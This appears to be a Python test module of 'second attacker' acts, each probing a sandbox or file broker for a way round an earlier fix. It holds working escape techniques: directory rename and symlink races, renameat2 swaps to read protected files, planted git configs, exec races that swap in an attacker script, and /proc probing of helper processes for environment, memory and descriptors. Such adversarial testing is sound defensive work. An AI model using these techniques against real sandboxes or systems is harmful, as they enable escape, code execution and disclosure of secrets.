"""Acts of a second attacker: each goes round a fix that an earlier one brought about."""

import ctypes
import os
import signal
import threading
import time

from acts_kernel import NR

LIBC = ctypes.CDLL(None, use_errno=True)
CLONE_FS = 0x200
GOT = {}
"""What a thread that outlived its call has brought in, by name."""


def _put(path, content):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write(content)


def renew_by_its_parent(parent, name, planted):
    """Move an existing directory away by moving its parent, make both anew, plant, and put everything back."""
    aside = parent + ".aside"
    os.rename(parent, aside)
    os.mkdir(parent)
    os.mkdir(f"{parent}/{name}")
    try:
        _put(f"{parent}/{name}/{planted}", "planted")
    finally:
        for each in os.listdir(f"{aside}/{name}"):
            os.rename(f"{aside}/{name}/{each}", f"{parent}/{name}/{each}")
    return "planted"


def move_away(directory):
    os.rename(directory, directory + ".aside")
    return "moved"


def come_back_as_new(directory, planted):
    """In another call than the one that moved `directory` away: make it anew, plant, and put everything back."""
    os.mkdir(directory)
    try:
        _put(f"{directory}/{planted}", "planted")
    finally:
        for each in os.listdir(directory + ".aside"):
            os.rename(f"{directory}.aside/{each}", f"{directory}/{each}")
    return "planted"


def move_below_born(directory, new, planted):
    """Move an existing directory into one made in this call."""
    os.mkdir(new)
    inside = f"{new}/{os.path.basename(directory)}"
    os.rename(directory, inside)
    _put(f"{inside}/{planted}", "planted")
    return "planted"


def bear_repository(directory, config):
    """Make an existing directory a repository of its own, with orders in its config."""
    for name in ("objects/info", "refs/heads"):
        os.makedirs(f"{directory}/.git/{name}", exist_ok=True)
    _put(f"{directory}/.git/HEAD", "ref: refs/heads/main\n")
    _put(f"{directory}/.git/config", config)
    return "planted"


def turn_link(directory, name, target):
    """Make a link by way of a directory below, and put a link in that one's place afterwards."""
    os.makedirs(f"{directory}/m/q")
    os.symlink(f"q/../{target}", f"{directory}/m/{name}")
    os.rmdir(f"{directory}/m/q")
    os.symlink("..", f"{directory}/m/q")
    return os.path.realpath(f"{directory}/m/{name}")


def _evil(name, interpreter, marker):
    directory = f"{os.environ.get('TMPDIR', '/tmp')}/evil{time.monotonic_ns()}"
    os.mkdir(directory)
    with open(f"{directory}/{name}", "w") as file:
        file.write(f"#!{interpreter}\necho {marker}\n")
    return directory


def _until_executed(pid, interpreter):
    real = os.path.realpath(interpreter)
    until = time.monotonic() + 5
    while time.monotonic() < until:
        try:
            if os.readlink(f"/proc/{pid}/exe") == real:
                return
        except OSError:
            pass


def _collected(reader, *pids):
    said = b""
    while data := os.read(reader, 65536):
        said += data
    os.close(reader)
    for pid in pids:
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
        os.waitpid(pid, 0)
    return said.decode("utf-8", "replace")


def execute_where_the_directory_turns(script, interpreter, marker):
    """Execute a script by a relative name; a process that shares the working directory changes it afterwards."""
    place, name = os.path.split(script)
    evil = _evil(name, interpreter, marker)
    reader, writer = os.pipe()
    child = os.fork()
    if not child:
        try:
            os.close(reader)
            me = os.getpid()
            os.chdir(place)
            if not LIBC.syscall(NR["clone"], CLONE_FS | signal.SIGCHLD, 0, 0, 0, 0):
                os.close(writer)
                os.close(1), os.close(2)
                _until_executed(me, interpreter)
                LIBC.chdir(evil.encode())
                time.sleep(1)
                os._exit(0)
            os.dup2(writer, 1)
            os.dup2(writer, 2)
            os.close(writer)
            os.execve(name, ["x"], {})
        except OSError as error:
            os.write(2, str(error).encode())
        finally:
            os._exit(1)
    os.close(writer)
    return _collected(reader, child)


def execute_by_anothers_descriptor(script, interpreter, marker):
    """Execute a script by a name that leads through the descriptor of another process, which changes it afterwards."""
    place, name = os.path.split(script)
    evil = _evil(name, interpreter, marker)
    fd = os.open(place, os.O_PATH)
    reader, writer = os.pipe()
    go, tell = os.pipe()
    holder = os.fork()
    if not holder:
        os.close(reader), os.close(writer), os.close(tell)
        other = os.open(evil, os.O_PATH)
        pid = int(os.read(go, 20))
        _until_executed(pid, interpreter)
        os.dup2(other, fd)
        time.sleep(2)
        os._exit(0)
    child = os.fork()
    if not child:
        try:
            os.close(reader), os.close(go)
            os.write(tell, str(os.getpid()).encode())
            os.dup2(writer, 1)
            os.dup2(writer, 2)
            os.close(writer)
            time.sleep(0.1)
            os.execve(f"/proc/{holder}/fd/{fd}/{name}", ["x"], {})
        except OSError as error:
            os.write(2, str(error).encode())
        finally:
            os._exit(1)
    os.close(writer), os.close(go), os.close(tell), os.close(fd)
    return _collected(reader, child, holder)


def open_for_later(path, name):
    """Let a thread open `path`, which blocks, and answer the call meanwhile."""

    def bring():
        try:
            with open(path, "rb") as file:
                GOT[name] = file.read().decode()
        except OSError as error:
            GOT[name] = str(error)

    threading.Thread(target=bring, daemon=True).start()
    time.sleep(0.3)
    return "waiting"


def what_came(name, seconds):
    until = time.monotonic() + seconds
    while name not in GOT and time.monotonic() < until:
        time.sleep(0.02)
    return GOT.get(name, "nothing")


def look_at_parked():
    """Let the broker park a call, and find out what its helper in /proc gives away."""
    before = {name for name in os.listdir("/proc") if name.isdigit()}
    fifo = f"{os.environ.get('TMPDIR', '/tmp')}/fifo{time.monotonic_ns()}"
    os.mkfifo(fifo)
    threading.Thread(target=lambda: open(fifo, "rb"), daemon=True).start()
    time.sleep(0.3)
    found = []
    for pid in sorted({name for name in os.listdir("/proc") if name.isdigit()} - before) + ["1"]:
        for what in ("environ", "cmdline", "maps", "fd", "mem", "status", "mountinfo", "net/unix", "auxv"):
            path = f"/proc/{pid}/{what}"
            try:
                if what == "fd":
                    said = str(os.listdir(path))
                else:
                    with open(path, "rb") as file:
                        said = file.read(300).decode("latin-1")
                found.append(f"{path}: {said!r}")
            except OSError as error:
                found.append(f"{path}: {error.strerror}")
        for fd in range(30):
            for flags in (os.O_PATH, os.O_RDONLY | os.O_NONBLOCK, os.O_WRONLY | os.O_NONBLOCK):
                try:
                    got = os.open(f"/proc/{pid}/fd/{fd}", flags)
                    found.append(f"fd {pid}/{fd} {flags}: {os.readlink(f'/proc/self/fd/{got}')}")
                except OSError:
                    pass
        for name in ("root", "cwd", "exe", "ns/mnt"):
            try:
                found.append(f"{pid}/{name}: {os.readlink(f'/proc/{pid}/{name}')}")
            except OSError as error:
                found.append(f"{pid}/{name}: {error.strerror}")
        try:
            os.kill(int(pid), 0)
            found.append(f"{pid}: may be signalled")
        except OSError as error:
            found.append(f"{pid}: {error.strerror}")
    return "\n".join(found)


def listen_to(path):
    """Open a FIFO without waiting and return what it holds."""
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    until = time.monotonic() + 3
    while time.monotonic() < until:
        try:
            if data := os.read(fd, 4096):
                return data.decode()
        except BlockingIOError:
            pass
        time.sleep(0.02)
    return "nothing"


def exchange_for_directory(secret):
    """Exchange a file that is private by its name with a directory, and read it under that one's name."""
    other = os.path.join(os.path.dirname(secret), "taken")
    os.mkdir(other)
    _exchange(other, secret)
    with open(other) as file:
        return file.read()


def _exchange(one, other):
    if LIBC.syscall(NR["renameat2"], -100, one.encode(), -100, other.encode(), 2):
        raise OSError(ctypes.get_errno(), "renameat2")


def replace_by_link(path, text):
    """Put a link in the place of a file that is protected as a file."""
    os.symlink(text, path + "~")
    os.rename(path + "~", path)
    return "replaced"


def point_git_by_link(directory, name, config):
    """Make what git takes for a repository, under a name that says nothing, and a link `.git` to it."""
    data = f"{directory}/gitdata"
    for each in ("objects/info", "refs/heads"):
        os.makedirs(f"{data}/{each}", exist_ok=True)
    _put(f"{data}/HEAD", "ref: refs/heads/main\n")
    _put(f"{data}/config", config)
    os.symlink("../gitdata", f"{directory}/{name}/.git")
    return "linked"


def rename_and_answer(source, destination):
    """Let a thread rename a large directory, and answer while the broker still looks through it."""

    def move():
        LIBC.rename(source.encode(), destination.encode())

    threading.Thread(target=move, daemon=True).start()
    time.sleep(0.01)
    return "answered"


def read_parked(what):
    """Let the broker park a call, and read what /proc tells of the process that waits for it."""
    before = {name for name in os.listdir("/proc") if name.isdigit()}
    fifo = f"{os.environ.get('TMPDIR', '/tmp')}/fifo{time.monotonic_ns()}"
    os.mkfifo(fifo)
    threading.Thread(target=lambda: open(fifo, "rb"), daemon=True).start()
    time.sleep(0.3)
    new = {name for name in os.listdir("/proc") if name.isdigit()} - before
    try:
        said = ""
        for pid in new:
            with open(f"/proc/{pid}/{what}", "rb") as file:
                said += file.read(4096).decode("latin-1").replace("\0", " ")
        return said or "none"
    finally:
        os.close(os.open(fifo, os.O_WRONLY))


def bear_bare_repository(directory, config):
    """Give an existing directory the files by which git takes it for a bare repository; no name is protected."""
    for name in ("objects/info", "refs/heads"):
        os.makedirs(f"{directory}/{name}", exist_ok=True)
    _put(f"{directory}/HEAD", "ref: refs/heads/main\n")
    _put(f"{directory}/config", config)
    return "planted"


def lead_config_elsewhere(directory, target):
    """Make a repository whose config is a link."""
    os.makedirs(f"{directory}/.git")
    os.symlink(target, f"{directory}/.git/config")
    return "linked"


def write_by(path, content):
    with open(path, "w") as file:
        file.write(content)
    return "written"


def execute_at_turning_descriptor(script, interpreter, marker, rounds=60):
    """Execute a script by a directory descriptor, which another thread turns while the arguments are copied."""
    place, name = os.path.split(script)
    evil = _evil(name, interpreter, marker)
    seen = set()
    for attempt in range(rounds):
        reader, writer = os.pipe()
        child = os.fork()
        if not child:
            try:
                os.close(reader)
                fd, good, other = (
                    os.open(place, os.O_PATH),
                    os.open(place, os.O_PATH),
                    os.open(evil, os.O_PATH),
                )
                os.dup2(writer, 1), os.dup2(writer, 2)
                os.close(writer)
                os.set_inheritable(fd, True)
                words = [b"x"] + [b"y" * 120_000] * 12
                argv = (ctypes.c_char_p * (len(words) + 1))(*words, None)

                def turn():
                    time.sleep(0.0003 + attempt % 20 * 0.0001)
                    LIBC.dup2(other, fd)

                threading.Thread(target=turn, daemon=True).start()
                LIBC.syscall(NR["execveat"], fd, name.encode(), argv, (ctypes.c_char_p * 1)(None), 0)
                os.write(2, f"errno {ctypes.get_errno()}".encode())
            finally:
                os._exit(1)
        os.close(writer)
        said = _collected(reader, child)
        if marker in said:
            return said
        seen.add(said[:60])
    raise OSError(13, f"never: {seen}")


def chain_links(directory, count):
    """Make links of which each leads to the next; the kernel follows 40."""
    for number in range(count):
        os.symlink(f"l{number + 1}", f"{directory}/l{number}")
    return "chained"


def try_siblings(directory, name):
    """Try to change others' files by names that are an atomic writer's."""
    d, found = directory, []

    def attempt(label, do):
        try:
            do()
            found.append(f"DONE {label}")
        except OSError as error:
            found.append(f"{label}: {error.strerror}")

    bound, victim = f"{d}/{name}", f"{d}/{name}.bak"
    attempt("truncate existing", lambda: open(victim, "w").close())
    attempt("append existing", lambda: open(victim, "a").close())
    attempt("unlink existing", lambda: os.unlink(victim))
    attempt("rename bound over existing", lambda: os.rename(bound, victim))
    attempt("exchange bound with existing", lambda: _exchange(bound, victim))
    attempt("create own", lambda: open(f"{bound}.own", "w").write("x"))
    attempt("rename own over existing", lambda: os.rename(f"{bound}.own", victim))
    attempt("exchange own with existing", lambda: _exchange(f"{bound}.own", victim))
    attempt("exchange own with bound", lambda: _exchange(f"{bound}.own", bound))
    attempt("link bound over existing", lambda: os.link(bound, victim))
    attempt("link existing to own name", lambda: os.link(victim, f"{bound}.l"))
    attempt("symlink", lambda: os.symlink("b.txt", f"{bound}.s"))
    attempt("mkdir", lambda: os.mkdir(f"{bound}.d"))
    attempt("fifo", lambda: os.mkfifo(f"{bound}.f"))
    attempt("read existing", lambda: open(victim).read())
    attempt("chmod existing", lambda: os.chmod(victim, 0o777))
    return "\n".join(found)
